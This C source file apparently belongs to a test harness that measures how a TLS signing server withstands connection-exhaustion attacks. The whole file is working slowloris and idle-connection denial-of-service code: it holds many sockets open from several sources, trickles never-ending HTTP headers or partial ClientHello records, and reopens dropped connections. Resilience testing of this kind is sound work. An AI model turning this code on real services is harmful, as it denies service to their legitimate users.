/*
 * Slowloris and idle: many connections held open at once by one thread with
 * nonblocking sockets and one poll() loop (600 connections, not 600
 * threads). Each slot is one persistent attacker: connect from its source
 * address, complete the TLS handshake without a client certificate (or,
 * plain, only TCP), then trickle one byte every trickle_s (slowloris) or
 * send nothing (idle). When the server closes it, or it fails, or a connect
 * or handshake takes DOS_OP_TIMEOUT_S, the slot opens a new one
 * DOS_REOPEN_S later.
 */
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>

#include "dos.h"

#define DOS_RAMP_S 0.5		/* the first connections are spread over this */
#define DOS_POLL_MAX_MS 100

/* Headers that never end: "X-a: aaaa..." grows by one byte per trickle. */
static const char dos_http_prefix[] = "POST /v1/sign HTTP/1.1\r\nHost: x\r\nX-a: ";

/* The start of a TLS record announcing a 512-byte ClientHello that never arrives whole. */
static const unsigned char dos_hello_prefix[] = {
	0x16, 0x03, 0x01, 0x02, 0x00,	/* handshake record, TLS 1.0 framing, 512 bytes */
	0x01, 0x00, 0x01, 0xfc,		/* ClientHello, 508 bytes */
	0x03, 0x03,			/* client_version TLS 1.2 */
};

enum dos_slot_state {
	DOS_SLOT_WAIT,			/* closed; reopen at t_next */
	DOS_SLOT_CONNECTING,
	DOS_SLOT_HANDSHAKE,
	DOS_SLOT_OPEN,
};

struct dos_slot {
	enum dos_slot_state state;
	int fd;
	SSL *ssl;
	bool want_write;		/* the handshake waits for POLLOUT */
	bool reopen;			/* the next open is a re-open */
	unsigned src;
	double t_next;			/* WAIT: reopen; OPEN: next trickled byte */
	double t_deadline;		/* CONNECTING, HANDSHAKE: give up */
	double t_open;			/* when it became OPEN */
	uint64_t sent;
};

struct dos_hold {
	const struct dos_opts *o;
	struct dos_ctl *ctl;
	bool trickle;
	SSL_CTX *ctx;			/* NULL: plain */
	struct dos_slot *slot;
	struct pollfd *pfd;
	unsigned *pfd_slot;
	double *ages;
	size_t n_ages;
	atomic_uint open_now;
	pthread_t tid;
	struct dos_hold_result res;
	double open_sum;		/* sum of samples while measuring */
	uint64_t n_samples;
	bool oom;
};

static void
dos_slot_close(struct dos_hold *h, struct dos_slot *s, double now)
{
	if (s->state == DOS_SLOT_OPEN)
		atomic_fetch_sub(&h->open_now, 1);
	SSL_free(s->ssl);
	s->ssl = NULL;
	dos_abort_fd(s->fd);
	s->fd = -1;
	s->state = DOS_SLOT_WAIT;
	s->want_write = false;
	s->reopen = true;
	s->t_next = now + DOS_REOPEN_S;
}

static void
dos_slot_established(struct dos_hold *h, struct dos_slot *s, double now)
{
	unsigned open;

	s->state = DOS_SLOT_OPEN;
	s->want_write = false;
	s->t_open = now;
	s->t_next = now;	/* the first byte goes at once, then one per trickle_s */
	s->sent = 0;
	h->res.established++;
	open = atomic_fetch_add(&h->open_now, 1) + 1;
	if (open > h->res.open_peak)
		h->res.open_peak = open;
}

static void
dos_slot_closed_by_server(struct dos_hold *h, struct dos_slot *s, double now)
{
	h->res.closed++;
	if (h->n_ages < DOS_AGES_MAX) {
		if (h->ages == NULL && (h->ages = malloc(DOS_AGES_MAX * sizeof(*h->ages))) == NULL)
			h->oom = true;
		else
			h->ages[h->n_ages++] = now - s->t_open;
	}
	dos_slot_close(h, s, now);
}

static void
dos_slot_open(struct dos_hold *h, struct dos_slot *s, double now)
{
	bool in_progress;

	h->res.opened++;
	if (s->reopen)
		h->res.reopened++;
	if (dos_connect(s->src, h->o->port, 0, &s->fd, &in_progress) != 0) {
		h->res.refused++;
		dos_slot_close(h, s, now);
		return;
	}
	/* Connected at once or not, poll() reports POLLOUT when it is. */
	(void)in_progress;
	s->state = DOS_SLOT_CONNECTING;
	s->t_deadline = now + DOS_OP_TIMEOUT_S;
}

/* One step of the TLS handshake; errors close the slot. */
static void
dos_slot_handshake(struct dos_hold *h, struct dos_slot *s, double now)
{
	int r, err;

	ERR_clear_error();
	if ((r = SSL_connect(s->ssl)) == 1) {
		dos_slot_established(h, s, now);
		return;
	}
	err = SSL_get_error(s->ssl, r);
	if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE) {
		s->want_write = err == SSL_ERROR_WANT_WRITE;
		return;
	}
	ERR_clear_error();
	h->res.refused++;
	dos_slot_close(h, s, now);
}

static void
dos_slot_connected(struct dos_hold *h, struct dos_slot *s, double now)
{
	int soerr = 0;
	socklen_t len = sizeof(soerr);

	if (getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &soerr, &len) != 0 || soerr != 0) {
		h->res.refused++;
		dos_slot_close(h, s, now);
		return;
	}
	if (h->ctx == NULL) {
		dos_slot_established(h, s, now);
		return;
	}
	if ((s->ssl = SSL_new(h->ctx)) == NULL || SSL_set_fd(s->ssl, s->fd) != 1) {
		ERR_clear_error();
		h->res.refused++;
		dos_slot_close(h, s, now);
		return;
	}
	SSL_set_connect_state(s->ssl);
	s->state = DOS_SLOT_HANDSHAKE;
	s->t_deadline = now + DOS_OP_TIMEOUT_S;
	dos_slot_handshake(h, s, now);
}

/* Read whatever the server sent; a close (or an error) closes the slot. */
static void
dos_slot_drain(struct dos_hold *h, struct dos_slot *s, double now)
{
	char buf[4096];
	ssize_t n;
	int r, err;

	for (;;) {
		if (s->ssl != NULL) {
			ERR_clear_error();
			if ((r = SSL_read(s->ssl, buf, (int)sizeof(buf))) > 0) {
				h->res.answers += (uint64_t)r;
				continue;
			}
			err = SSL_get_error(s->ssl, r);
			if (err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE)
				return;
			ERR_clear_error();
		} else {
			if ((n = recv(s->fd, buf, sizeof(buf), 0)) > 0) {
				h->res.answers += (uint64_t)n;
				continue;
			}
			if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
				return;
		}
		dos_slot_closed_by_server(h, s, now);
		return;
	}
}

static void
dos_slot_trickle(struct dos_hold *h, struct dos_slot *s, double now)
{
	static const char filler = 'a';
	const void *byte;
	ssize_t n;
	int r;

	if (h->ctx != NULL) {
		byte = s->sent < sizeof(dos_http_prefix) - 1 ? (const void *)&dos_http_prefix[s->sent] : &filler;
		ERR_clear_error();
		r = SSL_write(s->ssl, byte, 1);
		if (r != 1) {
			r = SSL_get_error(s->ssl, r);
			ERR_clear_error();
			if (r == SSL_ERROR_WANT_WRITE || r == SSL_ERROR_WANT_READ)
				return;	/* retried at the next turn */
			dos_slot_closed_by_server(h, s, now);
			return;
		}
	} else {
		byte = s->sent < sizeof(dos_hello_prefix) ? (const void *)&dos_hello_prefix[s->sent] : &filler;
		if ((n = send(s->fd, byte, 1, MSG_NOSIGNAL)) != 1) {
			if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
				return;
			dos_slot_closed_by_server(h, s, now);
			return;
		}
	}
	s->sent++;
	h->res.bytes++;
	s->t_next += h->o->trickle_s;
	if (s->t_next < now)
		s->t_next = now + h->o->trickle_s;
}

/* Timers: reopen, give up, trickle. Returns the earliest next timer. */
static double
dos_hold_timers(struct dos_hold *h, double now)
{
	double next = now + DOS_POLL_MAX_MS / 1000.0;
	struct dos_slot *s;
	unsigned i;

	for (i = 0; i < h->o->conns; i++) {
		s = &h->slot[i];
		switch (s->state) {
		case DOS_SLOT_WAIT:
			if (now >= s->t_next)
				dos_slot_open(h, s, now);
			else if (s->t_next < next)
				next = s->t_next;
			break;
		case DOS_SLOT_CONNECTING:
		case DOS_SLOT_HANDSHAKE:
			if (now >= s->t_deadline) {
				h->res.timeouts++;
				dos_slot_close(h, s, now);
			} else if (s->t_deadline < next) {
				next = s->t_deadline;
			}
			break;
		case DOS_SLOT_OPEN:
			if (!h->trickle)
				break;
			if (now >= s->t_next)
				dos_slot_trickle(h, s, now);
			if (s->state == DOS_SLOT_OPEN && s->t_next < next)
				next = s->t_next;
			break;
		}
	}
	return next;
}

static void
dos_hold_sample(struct dos_hold *h)
{
	unsigned open = atomic_load(&h->open_now);

	if (!atomic_load(&h->ctl->measuring))
		return;
	if (h->n_samples == 0 || open < h->res.open_min)
		h->res.open_min = open;
	h->open_sum += open;
	h->n_samples++;
}

static void *
dos_hold_main(void *arg)
{
	struct dos_hold *h = arg;
	struct dos_slot *s;
	double now, next, next_sample;
	unsigned i, n;
	int ms;
	short ev;

	now = bench_now();
	next_sample = now;
	for (i = 0; i < h->o->conns; i++)
		h->slot[i].t_next = now + DOS_RAMP_S * i / h->o->conns;
	while (!atomic_load(&h->ctl->stop) && !h->oom) {
		now = bench_now();
		next = dos_hold_timers(h, now);
		if (now >= next_sample) {
			dos_hold_sample(h);
			next_sample += DOS_SAMPLE_S;
			if (next_sample < now)
				next_sample = now + DOS_SAMPLE_S;
		}
		if (next_sample < next)
			next = next_sample;
		for (i = 0, n = 0; i < h->o->conns; i++) {
			s = &h->slot[i];
			if (s->state == DOS_SLOT_WAIT)
				continue;
			ev = s->state == DOS_SLOT_CONNECTING || s->want_write ? POLLOUT : POLLIN;
			h->pfd[n] = (struct pollfd){ .fd = s->fd, .events = ev };
			h->pfd_slot[n++] = i;
		}
		ms = (int)((next - bench_now()) * 1000.0) + 1;
		if (ms < 0)
			ms = 0;
		if (ms > DOS_POLL_MAX_MS)
			ms = DOS_POLL_MAX_MS;
		if (poll(h->pfd, n, ms) <= 0)
			continue;
		now = bench_now();
		for (i = 0; i < n; i++) {
			if (h->pfd[i].revents == 0)
				continue;
			s = &h->slot[h->pfd_slot[i]];
			switch (s->state) {
			case DOS_SLOT_CONNECTING:
				dos_slot_connected(h, s, now);
				break;
			case DOS_SLOT_HANDSHAKE:
				dos_slot_handshake(h, s, now);
				break;
			case DOS_SLOT_OPEN:
				dos_slot_drain(h, s, now);
				break;
			case DOS_SLOT_WAIT:
				break;
			}
		}
	}
	now = bench_now();
	for (i = 0; i < h->o->conns; i++)
		if (h->slot[i].state != DOS_SLOT_WAIT)
			dos_slot_close(h, &h->slot[i], now);
	ERR_clear_error();
	return NULL;
}

static void
dos_hold_free(struct dos_hold *h)
{
	if (h == NULL)
		return;
	SSL_CTX_free(h->ctx);
	free(h->slot);
	free(h->pfd);
	free(h->pfd_slot);
	free(h->ages);
	free(h);
}

int
dos_hold_start(const struct dos_opts *o, bool trickle, struct dos_ctl *ctl, struct dos_hold **out)
{
	struct dos_hold *h = NULL;
	unsigned i;
	int rc;

	*out = NULL;
	if (o->conns == 0 || o->conns > DOS_CONNS_MAX || o->sources == 0 || o->sources > DOS_SOURCES_MAX) {
		rc = sd_error_set(SD_E_INVAL, "%u connections over %u sources", o->conns, o->sources);
		goto out;
	}
	if ((h = calloc(1, sizeof(*h))) == NULL || (h->slot = calloc(o->conns, sizeof(*h->slot))) == NULL ||
	    (h->pfd = calloc(o->conns, sizeof(*h->pfd))) == NULL ||
	    (h->pfd_slot = calloc(o->conns, sizeof(*h->pfd_slot))) == NULL) {
		rc = SD_E_NOMEM;
		goto out;
	}
	h->o = o;
	h->ctl = ctl;
	h->trickle = trickle;
	atomic_init(&h->open_now, 0);
	if (!o->plain && (rc = dos_tls_ctx_new(&h->ctx)) != 0)
		goto out;
	for (i = 0; i < o->conns; i++) {
		h->slot[i].fd = -1;
		h->slot[i].src = i % o->sources;
	}
	if (pthread_create(&h->tid, NULL, dos_hold_main, h) != 0) {
		rc = sd_error_set(SD_E_INTERNAL, "cannot start the attack thread");
		goto out;
	}
	*out = h;
	h = NULL;
	rc = 0;
out:
	dos_hold_free(h);
	return rc;
}

unsigned
dos_hold_open_now(const struct dos_hold *h)
{
	return atomic_load(&h->open_now);
}

void
dos_hold_finish(struct dos_hold *h, struct dos_hold_result *res)
{
	(void)pthread_join(h->tid, NULL);
	*res = h->res;
	res->open_mean = h->n_samples > 0 ? h->open_sum / (double)h->n_samples : 0;
	bench_sort(h->ages, h->n_ages);
	res->age_p50_s = bench_percentile(h->ages, h->n_ages, 50);
	res->age_max_s = h->n_ages > 0 ? h->ages[h->n_ages - 1] : 0;
	dos_hold_free(h);
}
